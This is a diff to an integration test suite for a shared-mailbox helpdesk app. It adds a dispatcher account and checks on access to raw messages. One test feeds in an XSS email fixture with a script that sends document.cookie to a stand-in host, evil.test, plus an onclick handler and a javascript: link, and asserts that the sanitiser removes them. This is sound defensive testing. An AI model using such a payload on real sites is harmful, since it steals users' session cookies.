@@ -7,6 +7,9 @@ import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
 import { api, sendMail, startTestStack, waitFor, type ApiClient, type LocalStack } from '../support/local-stack.js';
 
 let stack: LocalStack;
+/** Dispatcher of Support: sees every conversation of the mailbox. */
+let alex: ApiClient;
+/** Agent of Support only: member of no other mailbox. */
 let julien: ApiClient;
 let camille: ApiClient;
 let sarah: ApiClient;
@@ -22,6 +25,7 @@ async function findConversation(client: ApiClient, mailboxId: string, subject: s
 
 beforeAll(async () => {
   stack = await startTestStack();
+  alex = api(stack, await stack.signIn('alex@acme.test'));
   julien = api(stack, await stack.signIn('julien@acme.test'));
   camille = api(stack, await stack.signIn('camille@acme.test'));
   sarah = api(stack, await stack.signIn('sarah@acme.test'));
@@ -47,9 +51,9 @@ describe('inbound mail over SMTP', () => {
     await stack.drain();
 
     // Assess
-    const summary = await findConversation(julien, 'support', 'Problème de connexion');
+    const summary = await findConversation(alex, 'support', 'Problème de connexion');
     expect(summary).toMatchObject({ messageCount: 2, status: 'unassigned', isNew: true });
-    const detail = await julien.get<any>(`/api/conversations/${summary.conversationId}`);
+    const detail = await alex.get<any>(`/api/conversations/${summary.conversationId}`);
     expect(detail.status).toBe(200);
     expect(detail.body.messages.map((m: any) => m.threading.kind)).toEqual(['new', 'in-reply-to']);
     expect(detail.body.messages[0].from).toEqual({ address: 'elodie@client.test', name: 'Élodie Durand' });
@@ -64,20 +68,20 @@ describe('inbound mail over SMTP', () => {
       attachments: [{ filename: 'facture-novembre.pdf', content: Buffer.from('%PDF-1.4 facture'), contentType: 'application/pdf' }],
     });
     await stack.drain();
-    const summary = await findConversation(julien, 'support', 'Facture novembre');
+    const summary = await findConversation(alex, 'support', 'Facture novembre');
     expect(summary.labels).toEqual(['facturation']);
-    const detail = await julien.get<any>(`/api/conversations/${summary.conversationId}`);
+    const detail = await alex.get<any>(`/api/conversations/${summary.conversationId}`);
     const message = detail.body.messages[0];
     expect(message.attachments).toEqual([expect.objectContaining({ filename: 'facture-novembre.pdf', contentType: 'application/pdf', size: 16 })]);
 
-    const raw = await julien.get(message.rawUrl);
+    const raw = await alex.get(message.rawUrl);
     expect(raw.status).toBe(302);
     const eml = await fetch(raw.headers.get('location')!);
     const text = await eml.text();
     expect(text).toContain(`Message-ID: ${sent.messageId}`);
     expect(text).toContain('Subject: Facture novembre');
 
-    const attachment = await julien.get(message.attachments[0].url);
+    const attachment = await alex.get(message.attachments[0].url);
     expect(attachment.status).toBe(302);
     expect(await (await fetch(attachment.headers.get('location')!)).text()).toBe('%PDF-1.4 facture');
   });
@@ -95,10 +99,10 @@ describe('inbound mail over SMTP', () => {
   it('shows mail to two shared addresses in both mailboxes, stored once', async () => {
     await sendMail(stack, { from: 'partenaire@client.test', to: ['support@acme.test', 'ventes@acme.test'], subject: 'Salon professionnel', text: 'Invitation' });
     await stack.drain();
-    const inSupport = await findConversation(julien, 'support', 'Salon professionnel');
+    const inSupport = await findConversation(alex, 'support', 'Salon professionnel');
     const inVentes = await findConversation(sarah, 'ventes', 'Salon professionnel');
     expect(inSupport.conversationId).not.toBe(inVentes.conversationId);
-    const a = await julien.get<any>(`/api/conversations/${inSupport.conversationId}`);
+    const a = await alex.get<any>(`/api/conversations/${inSupport.conversationId}`);
     const b = await sarah.get<any>(`/api/conversations/${inVentes.conversationId}`);
     expect(a.body.messages[0].messageKey).toBe(b.body.messages[0].messageKey);
   });
@@ -109,8 +113,8 @@ describe('inbound mail over SMTP', () => {
       html: '<p onclick="steal()">Bonjour</p><script>fetch("https://evil.test/?c="+document.cookie)</script><img src="https://evil.test/pixel.gif"><a href="javascript:alert(1)">payer</a>',
     });
     await stack.drain();
-    const summary = await findConversation(julien, 'support', 'Facture urgente');
-    const detail = await julien.get<any>(`/api/conversations/${summary.conversationId}`);
+    const summary = await findConversation(alex, 'support', 'Facture urgente');
+    const detail = await alex.get<any>(`/api/conversations/${summary.conversationId}`);
     const html: string = detail.body.messages[0].html;
     expect(html).toContain('Bonjour');
     expect(html).not.toMatch(/<script|onclick|javascript:/i);
@@ -127,6 +131,9 @@ describe('inbound mail over SMTP', () => {
     });
     expect(listed.envelopeRecipients).toEqual(['someone@unknown-domain.test']);
     expect((await julien.get('/api/admin/unroutable')).status).toBe(403);
+    // The raw message stays downloadable for administrators, and only for them.
+    expect((await camille.get(listed.rawUrl)).status).toBe(302);
+    expect((await julien.get(listed.rawUrl)).status).toBe(404);
   });
 
   it('quarantines a message that keeps failing and lists it for administrators', async () => {
